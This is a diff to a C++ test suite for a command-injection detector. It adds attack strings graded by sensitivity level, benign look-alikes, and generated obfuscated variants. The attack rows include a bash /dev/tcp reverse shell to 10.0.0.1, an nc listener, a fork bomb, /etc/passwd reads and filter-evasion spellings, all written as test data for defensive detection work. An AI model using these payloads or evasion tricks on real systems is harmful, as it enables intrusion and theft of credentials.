@@ -73,6 +73,48 @@ constexpr Row kAttacks[] = {
     {"%COMSPEC% /c dir", "balanced"},
     {"for /f %i in (a.txt) do echo %i", "balanced"},
     {"if not exist c:\\x.txt (del y)", "balanced"},
+    {"IF /I \"%var%\"==\"x\" ( ECHO found )", "balanced"},
+    {"f(){ f|f& };f", "balanced"},
+    {"deploy() { rm x; }; deploy", "balanced"},
+    {"() {", "low"},
+    {"alias ll=curl", "balanced"},
+    {"alias -g x=id", "balanced"},
+    {"{,ifconfig}", "balanced"},
+    {"{cat,/etc/passwd}", "balanced"},
+    {"{id,}", "balanced"},
+    {"x;`cat<<<ifconfig`", "low"},
+    {"pi<()ng 127.0.0.1", "balanced"},
+    {"a=nc&&$a -nlvp 555", "balanced"},
+    {"d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", "low"},
+    {"x;$_at /et$_c/pas$_swd", "balanced"},
+    {"/usr/bin/id", "balanced"},
+    {"bin/bash", "balanced"},
+    {"c:\\windows\\system32\\cmd.exe", "balanced"},
+    {"nohup id", "balanced"},
+    {"time who", "strict"},
+    {"gcc-12 --version", "balanced"},
+    {"x;python3.11 -c 1", "low"},
+    {"git --version", "balanced"},
+    {"ls -la", "balanced"},
+    {"cat /srv/x/y.gz", "balanced"},
+    {"cat /et*/*wd", "balanced"},
+    {"ansible-playbook site.yml", "balanced"},
+    {"ansible-vault decrypt secret", "strict"},
+    {"visudo", "strict"},
+    {"x&bcdboot /r file", "low"},
+    {"Get-ChildItem -Path c:\\", "balanced"},
+    {"[Convert]::FromBase64String('aQ==')", "balanced"},
+    {".shell id", "balanced"},
+    {"1;\n.system id", "balanced"},
+    {"\\! id", "balanced"},
+    {">/tmp/x", "balanced"},
+    {"$((1+1))", "strict"},
+    {"!!", "strict"},
+    {"~-1", "strict"},
+    {"\r\nMAIL FROM:<a@mail.example>", "balanced"},
+    {"\r\na001 EXAMINE INBOX", "balanced"},
+    {"\r\nRETR 12", "balanced"},
+    {"\r\nQUIT", "strict"},
 };
 
 constexpr Row kBenign[] = {
@@ -118,6 +160,34 @@ constexpr Row kBenign[] = {
     {"if not today then tomorrow", "-"},
     {"for %s in the list", "-"},
     {"SGVsbG8=;base64,AAAA", "-"},
+    {"R&D; sales", "-"},
+    {"cat food", "-"},
+    {"price $5", "-"},
+    {"a|b", "-"},
+    {"session=abc; id=5; date=today", "-"},
+    {"a{color:red;top:0;left:1px}", "-"},
+    {"{id,name,date}", "-"},
+    {"query { user(id: 1) { id name } }", "-"},
+    {"2024-01-01 10:00:00 GET /path?id=1&sort=date 200", "-"},
+    {"Wall Street; more or less", "-"},
+    {"python 3 tutorial", "-"},
+    {"head of sales", "-"},
+    {"find x for y", "-"},
+    {"the alias \"pineapple\" online", "-"},
+    {"const f = () => { return 1; }", "-"},
+    {"function a() { return b; } a.c", "-"},
+    {"First line\nlist of things\nuser story\n", "-"},
+    {"12 top songs\n10 more", "-"},
+    {"see ./a/b and ../c", "-"},
+    {"I use `git` and (id) here", "-"},
+    {"(type) or (file)", "-"},
+    {"https://shop.example/a?x=1&id&sort", "-"},
+    {"Hello!! ~ 5", "-"},
+    {"5 > 3", "-"},
+    {"~tom", "-"},
+    {"The date; the time; the host", "-"},
+    {"get-started", "-"},
+    {"content-type: text/html", "-"},
 };
 
 TEST(CmdInjection, Attacks) {
@@ -168,10 +238,65 @@ TEST(CmdInjection, VariationsStayDenied) {
   EXPECT_GT(made, 4000u);
 }
 
+// The same command in other spellings that its shell reads alike.
+TEST(CmdInjection, OtherSpellingsStayDenied) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  constexpr const char* kOperators[] = {";", "|", "&&", "\n", "$("};
+  constexpr const char* kNames[] = {"cat", "head", "curl", "wget", "uname", "python", "base64", "ifconfig"};
+  constexpr const char* kHiding[] = {"''", "\"\"", "\\", "$@", "$*", "``", "${x}", "$()", "^", "<()"};
+  constexpr const char* kSpaces[] = {" ", "\t", "  ", "${IFS}", "$IFS"};
+  constexpr const char* kArguments[] = {"/etc/passwd", "-x /etc/hosts", "/etc/p''asswd", "/e*c/passwd"};
+  Dice dice(3);
+  std::size_t made = 0;
+  for (const char* name : kNames) {
+    for (const char* hidden : kHiding) {
+      for (const char* space : kSpaces) {
+        for (const char* argument : kArguments) {
+          std::string word = name;
+          word.insert(1 + dice.roll(word.size() - 1), hidden);
+          const char* op = kOperators[dice.roll(std::size(kOperators))];
+          const std::string text = std::string("1") + op + word + space + argument;
+          EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
+          ++made;
+        }
+      }
+    }
+  }
+  EXPECT_EQ(made, 8u * 10 * 5 * 4);
+}
+
+TEST(CmdInjection, CmdExeReadsWithoutCaseAndThroughCarets) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  std::size_t made = 0;
+  for (const std::string name :
+       {"ipconfig", "systeminfo", "tasklist", "certutil", "powershell", "schtasks"}) {
+    for (const char* op : {"&", "|", "&&", "||", " & "}) {
+      for (std::size_t at = 1; at < name.size(); ++at) {
+        std::string word = name;
+        word[at] = static_cast<char>(word[at] - 32);
+        word.insert(at, "^");
+        const std::string text = "x" + std::string(op) + word + " /c c:\\x";
+        EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
+        ++made;
+      }
+    }
+  }
+  EXPECT_EQ(made, 5u * (7 + 9 + 7 + 7 + 9 + 7));
+}
+
+TEST(CmdInjection, NamesOfFieldsAreNotCommandLines) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "whoami", Location::kQuery, true), "-");
+  EXPECT_EQ(verdict_of(*analyzer, ";whoami", Location::kQuery, true), "balanced");
+  EXPECT_EQ(verdict_of(*analyzer, "/bin/ping", Location::kUrlPath), "-");
+}
+
 TEST(CmdInjection, TimeIsLinearOnHostileText) {
   const auto analyzer = make_cmd_injection_analyzer();
-  for (const char* unit : {";",       "`", "$(",      "'",   "\"", "\"$(", "${",   "a;",    "&&cat ", "if x ",
-                           "for %a ", "<", ">x.php ", "$a ", "\\", "^a",   "() {", "cat /", "*",      "/?"}) {
+  for (const char* unit :
+       {";",       "`",     "$(",      "'",    "\"", "\"$(",      "${",     "a;",    "&&cat ",  "if x ",
+        "for %a ", "<",     ">x.php ", "$a ",  "\\", "^a",        "() {",   "cat /", "*",       "/?",
+        ";cat \"", ";id '", "(){",     "{id,", "\n", "\na1 uid ", "x=;$x ", "`cat ", ";.shell "}) {
     std::string text;
     while (text.size() < 300000) text += unit;
     verdict_of(*analyzer, text,
